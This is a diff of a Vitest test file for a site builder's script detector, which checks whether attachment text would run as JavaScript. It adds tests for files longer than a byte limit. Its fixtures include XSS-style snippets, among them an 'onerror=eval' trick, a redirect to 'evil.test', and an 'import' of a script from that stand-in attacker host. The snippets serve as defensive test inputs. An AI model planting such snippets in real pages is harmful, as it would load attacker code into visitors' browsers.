@@ -6,7 +6,7 @@
 import path from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
 import { attachmentVerdict } from "../../src/core/site/attachment-safety.ts";
-import { isRunnableScript, runsAsScript } from "../../src/core/site/script-text.ts";
+import { isRunnableScript, runsAsScript, SCRIPT_READ_BYTES } from "../../src/core/site/script-text.ts";
 import { loadProject } from "../../src/core/project/project.ts";
 import { prepareSites } from "../../src/build/site-data.ts";
 import { flatMessages, lintJson, makeProject, removeTemps } from "../helpers.ts";
@@ -80,6 +80,20 @@ describe("runsAsScript", () => {
     for (const text of ["onerror=eval\nthrow'=top.__xss=1'", "location='//evil.test/'", "a.b += 1", "x >>>= 1", "x ||= top", "Function`x```", "a\n++b", "delete top.pagefind", "import('//evil.test/x.js')"]) {
       expect(isRunnableScript(text), text).toBe(true);
     }
+  });
+});
+
+describe("a file longer than SCRIPT_READ_BYTES", () => {
+  const long = (head: string, line: string) => bytes(head + line.repeat(Math.ceil((SCRIPT_READ_BYTES + 1000) / line.length)));
+
+  it("is judged by its start: a syntax error before the start's last line is the whole file's", () => {
+    expect(runsAsScript(long("", "2026-12-01 12:00:00 ERROR payment failed\n"))).toBe(false);
+    expect(runsAsScript(long("Refunds take five days.\n", "More prose, line after line.\n"))).toBe(false);
+  });
+
+  it("is a program when its start is one, or when the start's only error may be where it was cut", () => {
+    expect(runsAsScript(long("top.__xss = 1\n", "// padding\n"))).toBe(true);
+    expect(runsAsScript(long("top.__xss = 1 /*", "x"))).toBe(true);
   });
 });
 
